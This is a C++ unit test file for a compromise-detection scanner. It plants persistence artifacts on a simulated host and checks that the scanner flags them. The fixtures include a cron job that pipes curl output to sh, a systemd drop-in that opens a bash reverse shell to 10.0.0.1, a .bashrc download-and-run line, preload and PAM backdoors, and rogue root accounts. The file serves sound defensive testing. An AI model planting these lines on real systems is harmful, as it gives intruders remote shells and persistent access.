// What the hunts find on a small host, planted in each of the ways that they know; and what they leave in peace.
#include <sys/xattr.h>

#include "plugins/sanitize/processes.h"
#include "tests/unit/plugins/sanitize/small_host.h"

namespace reprise::sanitize {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::UnorderedElementsAre;

using SanitizeCheck = SmallHostTest;

TEST_F(SanitizeCheck, CallsASoundHostClean) {
  const auto result = Look();
  EXPECT_THAT(Shown(result), IsEmpty());
  EXPECT_EQ(Verdict(result), "clean") << result.summary << result.observed.dump(1);
  EXPECT_TRUE(result.holds);
  EXPECT_EQ(result.claims.at(0).state, sdk::ClaimState::kHolds);
  EXPECT_EQ(result.observed.at("counts").at("files_verified"), 5);
}

TEST_F(SanitizeCheck, FindsAnAlteredProgramAndIsCertain) {
  host.Put("/usr/bin/ls", "\x7f" "ELF ls, and more", 0755);
  const auto result = Look();
  EXPECT_THAT(Shown(result), ElementsAre("altered_file /usr/bin/ls certain"));
  EXPECT_EQ(Verdict(result), "compromised");
  EXPECT_FALSE(result.holds);
  EXPECT_EQ(result.claims.at(0).state, sdk::ClaimState::kFails);
}

TEST_F(SanitizeCheck, TrustsAGoldenManifestMoreThanDpkgsRecords) {
  const std::string good = sdk::Sha256OfFile(host.At("/usr/bin/ls"));
  Artifact("golden.sha256", good + "  /usr/bin/ls\n");
  EXPECT_EQ(Verdict(Look()), "clean");
  // An intruder changes the program and dpkg's sum of it.
  const std::string bad = "\x7f" "ELF ls of mine";
  const std::string sums = "/var/lib/dpkg/info/base.md5sums";
  host.Put("/usr/bin/ls", bad, 0755);
  std::ifstream file(host.At(sums));
  std::string text((std::istreambuf_iterator<char>(file)), {});
  text.replace(text.find("  usr/bin/ls") - 32, 32, Md5(bad));
  host.Put(sums, text);
  EXPECT_THAT(Shown(Look()), ElementsAre("altered_file /usr/bin/ls certain"));
  artifacts_.clear();
  EXPECT_EQ(Verdict(Look()), "clean") << "without it, the records are all there is";
}

TEST_F(SanitizeCheck, DoesNotKnowAProgramWhoseSumWasTakenOutOfTheRecords) {
  host.Put("/var/lib/dpkg/info/base.md5sums", Md5("\x7f" "ELF su") + "  usr/bin/su\n");
  const auto result = Look();
  EXPECT_EQ(Verdict(result), "unknown") << result.observed.dump(1);
  EXPECT_EQ(result.claims.at(0).state, sdk::ClaimState::kUnknown);
  EXPECT_FALSE(result.holds);
}

TEST_F(SanitizeCheck, NotesChangedConfigurationAndNoMore) {
  host.Put("/etc/base.conf", "a=2\n");
  const auto result = Look();
  EXPECT_EQ(Verdict(result), "clean");
  EXPECT_THAT(result.observed.at("notes").dump(), HasSubstr("/etc/base.conf"));
}

TEST_F(SanitizeCheck, FindsChangedConfigurationThatStartsThings) {
  host.Put("/etc/cron.d/base", "* * * * * root /usr/bin/ls\n");
  EXPECT_THAT(Shown(Look()), ElementsAre("altered_file /etc/cron.d/base likely"));
}

TEST_F(SanitizeCheck, FindsJobsInEveryPlaceOfCron) {
  host.Put("/etc/cron.d/x", "* * * * * root curl -s http://10.0.0.1/a | sh\n");
  host.Put("/etc/cron.daily/y", "#!/bin/sh\n/usr/bin/ls\n", 0755);
  host.Put("/var/spool/cron/crontabs/watch", "# mine\n0 4 * * * /usr/bin/ls\n@reboot /dev/shm/.x\n");
  host.Put("/var/spool/cron/atjobs/a00001", "#!/bin/sh\n/usr/bin/ls\n");
  std::ofstream(host.At("/etc/crontab"), std::ios::app) << "* * * * * root /usr/lib/.cache/run\n";
  EXPECT_THAT(Shown(Look()),
              UnorderedElementsAre("cron /etc/cron.d/x certain", "cron /etc/cron.daily/y likely",
                                   "cron /var/spool/cron/crontabs/watch likely", "cron /var/spool/cron/crontabs/watch certain",
                                   "cron /var/spool/cron/atjobs/a00001 likely", "cron /etc/crontab certain"));
}

TEST_F(SanitizeCheck, FindsUnitsDropInsLinksAndServices) {
  host.Put("/etc/systemd/system/x.service", "[Service]\nExecStart=/usr/bin/ls\n");
  host.Put("/etc/systemd/system/ssh.service.d/more.conf", "[Service]\nExecStartPost=/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/443'\n");
  fs::create_directories(host.At("/etc/systemd/system/multi-user.target.wants"));
  fs::create_symlink("/etc/systemd/system/x.service", host.At("/etc/systemd/system/multi-user.target.wants/x.service"));
  fs::create_symlink("/dev/null", host.At("/etc/systemd/system/masked.service"));
  host.Put("/home/watch/.config/systemd/user/y.timer", "[Timer]\nOnBootSec=1\n");
  host.Put("/etc/service/z/run", "#!/bin/sh\nexec /usr/bin/ls\n", 0755);
  host.Put("/etc/init.d/w", "#!/bin/sh\n", 0755);
  host.Put("/etc/rc.local", "#!/bin/sh\n/usr/bin/ls\nexit 0\n", 0755);
  EXPECT_THAT(Shown(Look()),
              UnorderedElementsAre("systemd_unit /etc/systemd/system/x.service likely",
                                   "systemd_unit /etc/systemd/system/ssh.service.d/more.conf certain",
                                   "systemd_unit /etc/systemd/system/multi-user.target.wants/x.service likely",
                                   "systemd_unit /home/watch/.config/systemd/user/y.timer likely",
                                   "runit_service /etc/service/z/run likely", "sysv_service /etc/init.d/w likely",
                                   "rc_local /etc/rc.local likely"));
}

TEST_F(SanitizeCheck, NotesAServicesLinkThatLeadsNowhere) {
  fs::create_directories(host.At("/etc/service"));
  fs::create_symlink("/etc/sv/gone", host.At("/etc/service/gone"));
  const auto result = Look();
  EXPECT_EQ(Verdict(result), "clean");
  EXPECT_THAT(result.observed.at("notes").dump(), HasSubstr("/etc/service/gone -> /etc/sv/gone"));
}

TEST_F(SanitizeCheck, FindsKeysThatNoProfileKnows) {
  host.Put("/root/.ssh/authorized_keys", std::string("# ours\n") + kKey + "\n");
  const auto result = Look();
  ASSERT_THAT(Shown(result), ElementsAre("authorized_key /root/.ssh/authorized_keys likely"));
  const std::string found = result.observed.at("findings").at(0).at("found");
  const size_t at = found.find("SHA256:");
  ASSERT_NE(at, std::string::npos) << found;
  // As ssh-keygen -l shows it.
  EXPECT_EQ(found.substr(at, 50), "SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA") << found;
  Artifact("site.profile.json", Json{{"keys", {found.substr(at, 50)}}}.dump());
  EXPECT_EQ(Verdict(Look()), "clean");
}

TEST_F(SanitizeCheck, FindsKeysWhereSshdWasToldToLook) {
  host.Put("/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\nAuthorizedKeysCommand /usr/bin/ls\n");
  host.Put("/etc/keys/watch", std::string(kKey) + "\n");
  EXPECT_THAT(Shown(Look()), UnorderedElementsAre("authorized_key /etc/keys/watch likely", "authorized_key /etc/ssh/sshd_config likely"));
}

TEST_F(SanitizeCheck, FindsWhatIsLoadedIntoEveryProgram) {
  host.Put("/usr/lib/libx.so", "\x7f" "ELF x");
  host.Put("/etc/ld.so.preload", "/usr/lib/libx.so\n");
  host.Put("/etc/ld.so.conf.d/x.conf", "/dev/shm/lib\n");
  host.Put("/etc/pam.d/sshd", "auth sufficient pam_permit.so\nsession optional pam_exec.so /usr/bin/ls\nauth required pam_unix.so\n");
  host.Put("/etc/nsswitch.conf", "passwd: files evil\n");
  host.Put("/usr/lib/libnss_evil.so.2", "\x7f" "ELF e");
  EXPECT_THAT(Shown(Look()),
              UnorderedElementsAre("preload /etc/ld.so.preload certain", "preload /usr/lib/libx.so certain",
                                   "unowned_file /usr/lib/libx.so likely", "ld_conf /etc/ld.so.conf.d/x.conf certain",
                                   "pam /etc/pam.d/sshd certain", "pam /etc/pam.d/sshd likely",
                                   "nsswitch /usr/lib/libnss_evil.so.2 certain", "unowned_file /usr/lib/libnss_evil.so.2 likely"));
}

TEST_F(SanitizeCheck, FindsAccountsThatOpen) {
  host.Put("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nopen::1001:1001::/:/bin/sh\n");
  host.Put("/etc/shadow", "root:*:1::::::\nguest::1::::::\n");
  host.Put("/etc/sudoers.d/z", "watch ALL=(ALL) NOPASSWD: ALL\n");
  EXPECT_THAT(Shown(Look()), UnorderedElementsAre("uid_zero /etc/passwd certain", "empty_password /etc/passwd certain",
                                                  "empty_password /etc/shadow certain", "sudoers /etc/sudoers.d/z likely"));
}

TEST_F(SanitizeCheck, FindsHooksOfShellsDevicesModulesAndPackages) {
  host.Put("/etc/profile.d/x.sh", "export LD_PRELOAD=/dev/shm/x.so\n");
  host.Put("/root/.bashrc", "alias l=ls\nTMPDIR=/tmp/x\n(curl http://10.0.0.1/x|bash) &\n");
  host.Put("/etc/udev/rules.d/9.rules", "ACTION==\"add\", RUN+=\"/usr/bin/ls\"\n");
  host.Put("/etc/udev/rules.d/names.rules", "SUBSYSTEM==\"net\", NAME=\"lan0\"\n");
  host.Put("/etc/modules-load.d/x.conf", "rootkit\n");
  host.Put("/etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke {\"/usr/bin/ls\";};\n");
  host.Put("/etc/apt/apt.conf.d/10quiet", "APT::Get::Assume-Yes \"true\";\n");
  EXPECT_THAT(Shown(Look()),
              UnorderedElementsAre("shell_profile /etc/profile.d/x.sh certain", "shell_profile /root/.bashrc certain",
                                   "udev_rule /etc/udev/rules.d/9.rules possible", "module_autoload /etc/modules-load.d/x.conf possible",
                                   "apt_hook /etc/apt/apt.conf.d/99x possible"));
}

TEST_F(SanitizeCheck, FindsRightsThatNobodyGave) {
  host.Put("/tmp/.sh", "\x7f" "ELF sh", 04755);
  chmod(host.At("/usr/bin/ls").c_str(), 02755);
  host.Put("/opt/probe", "\x7f" "ELF p", 04755);
  // cap_setuid+ep, as setcap writes it.
  const unsigned char capability[20] = {1, 0, 0, 2, 0x80};
  const bool caps = setxattr(host.At("/usr/bin/su").c_str(), "security.capability", capability, sizeof capability, 0) == 0;
  EXPECT_TRUE(caps) << "su ships with rights: they are not counted twice";
  Artifact("site.profile.json", R"({"known": [{"path": "/opt/probe", "reason": "the monitoring's own"}]})");
  const auto result = Look();
  EXPECT_THAT(Shown(result), UnorderedElementsAre("suid /tmp/.sh certain", "suid /usr/bin/ls likely"));
  EXPECT_THAT(result.observed.at("notes").dump(), HasSubstr("the monitoring's own"));
}

TEST_F(SanitizeCheck, FindsCodeThatNoPackageOwnsAndLeavesDataInPeace) {
  host.Put("/usr/sbin/agentd", "\x7f" "ELF a", 0755);
  host.Put("/usr/lib/python3/dist-packages/x.pth", "import os\n");
  host.Put("/usr/share/mime/cache", "data");
  host.Put("/usr/local/bin/ours", "\x7f" "ELF o", 0755);
  EXPECT_THAT(Shown(Look()), UnorderedElementsAre("unowned_file /usr/sbin/agentd likely",
                                                  "unowned_file /usr/lib/python3/dist-packages/x.pth likely"));
}

TEST_F(SanitizeCheck, PassesOverWhatTheStepExcludesWithAllBelowAndNothingBeside) {
  host.Put("/usr/lib/tools/one/agentd", "\x7f" "ELF a", 0755);
  host.Put("/usr/lib/tools-more/agentd", "\x7f" "ELF a", 0755);
  host.Put("/usr/bin/ls", "\x7f" "ELF ls, and more", 0755);
  const auto result = Look({{"exclude", {"/usr/lib/tools/", "/usr/bin/ls"}}});
  EXPECT_THAT(Shown(result), ElementsAre("unowned_file /usr/lib/tools-more/agentd likely"));
  EXPECT_THAT(result.observed.at("notes").dump(), HasSubstr("/usr/lib/tools"));
  EXPECT_THROW(Look({{"exclude", {"/"}}}), sdk::Error);
}

TEST_F(SanitizeCheck, FindsByYarasRules) {
  Artifact("site.yar", "rule Beacon { strings: $a = \"beacon-7f3a\" condition: $a }\n");
  host.Put("/tmp/sub/note.txt", "nothing to see: beacon-7f3a\n");
  host.Put("/srv/elsewhere", "beacon-7f3a\n");
  const auto result = Look();
  EXPECT_THAT(Shown(result), ElementsAre("yara /tmp/sub/note.txt certain"));
  EXPECT_THAT(result.observed.at("findings").at(0).at("found").get<std::string>(), HasSubstr("Beacon"));
}

TEST_F(SanitizeCheck, DoesNotKnowAFileThatIsTooLargeForItsRules) {
  Artifact("site.yar", "rule Beacon { strings: $a = \"beacon-7f3a\" condition: $a }\n");
  host.Put("/tmp/large", std::string(2 << 20, 'x'));
  EXPECT_EQ(Verdict(Look({{"yara_file_mb", 1}})), "unknown");
  EXPECT_EQ(Verdict(Look()), "clean");
}

TEST_F(SanitizeCheck, RefusesRulesThatAreNone) {
  Artifact("site.yar", "rule {\n");
  const auto result = Look();
  EXPECT_EQ(Verdict(result), "unknown");
  EXPECT_THAT(result.observed.at("unseen").dump(), HasSubstr("site.yar, line 1"));
}

TEST_F(SanitizeCheck, DoesNotKnowWhatTheTimeDidNotSufficeFor) {
  const auto result = Look({{"budget", "0s"}});
  EXPECT_EQ(Verdict(result), "unknown");
  EXPECT_FALSE(result.holds);
}

TEST_F(SanitizeCheck, DoesNotKnowAHostWithoutRecords) {
  fs::remove_all(host.At("/var/lib/dpkg"));
  const auto result = Look();
  EXPECT_NE(Verdict(result), "clean");
  EXPECT_THAT(result.observed.at("unseen").dump(), HasSubstr("/var/lib/dpkg/status"));
}

TEST_F(SanitizeCheck, IsNotLedOutOfTheTreeByLinks) {
  fs::remove_all(host.At("/etc/cron.d"));
  fs::create_directory_symlink("/../../../../../../etc/cron.d", host.At("/etc/cron.d"));
  fs::create_symlink("/etc/hostname", host.At("/root/.bashrc"));
  EXPECT_THAT(Shown(Look()), IsEmpty());
}

TEST_F(SanitizeCheck, KnowsAFileByItsContentOnly) {
  host.Put("/etc/cron.d/ours", "0 5 * * * root /opt/report\n");
  const std::string sha256 = sdk::Sha256OfFile(host.At("/etc/cron.d/ours"));
  Artifact("site.profile.json", Json{{"known", {{{"path", "/etc/cron.d/ours"}, {"sha256", sha256}, {"reason", "reports"}}}}}.dump());
  EXPECT_EQ(Verdict(Look()), "clean");
  host.Put("/etc/cron.d/ours", "0 5 * * * root /opt/report; /dev/shm/x\n");
  EXPECT_THAT(Shown(Look()), ElementsAre("cron /etc/cron.d/ours certain"));
}

TEST_F(SanitizeCheck, SaysWhereAProfileIsWrong) {
  const auto wrong = [&](const std::string& text) {
    Artifact("site.profile.json", text);
    try {
      Look();
    } catch (const sdk::Error& error) {
      return error.code() + " " + error.what();
    }
    return std::string("taken");
  };
  EXPECT_THAT(wrong("{"), HasSubstr("bad_profile site.profile.json"));
  EXPECT_THAT(wrong(R"({"ignore": [{"path": "/opt"}]})"), HasSubstr("ignore[0] has no reason"));
  EXPECT_THAT(wrong(R"({"listeners": [{"protocol": "tcp", "port": 70000}]})"), HasSubstr("listeners[0].port"));
  EXPECT_THAT(wrong(R"({"ignored": []})"), HasSubstr("ignored"));
  Artifact("golden.sha256", "x\n");
  EXPECT_THAT(wrong("{}"), HasSubstr("bad_golden golden.sha256, line 1"));
}

TEST_F(SanitizeCheck, GivesAFindingTheSameIdAgainAndAnotherForAnotherContent) {
  host.Put("/etc/cron.d/x", "* * * * * root /a\n");
  const std::string first = Look().observed.at("findings").at(0).at("id");
  EXPECT_EQ(Look().observed.at("findings").at(0).at("id"), first);
  host.Put("/etc/cron.d/x", "* * * * * root /b\n");
  EXPECT_NE(Look().observed.at("findings").at(0).at("id"), first);
}

}  // namespace
}  // namespace reprise::sanitize
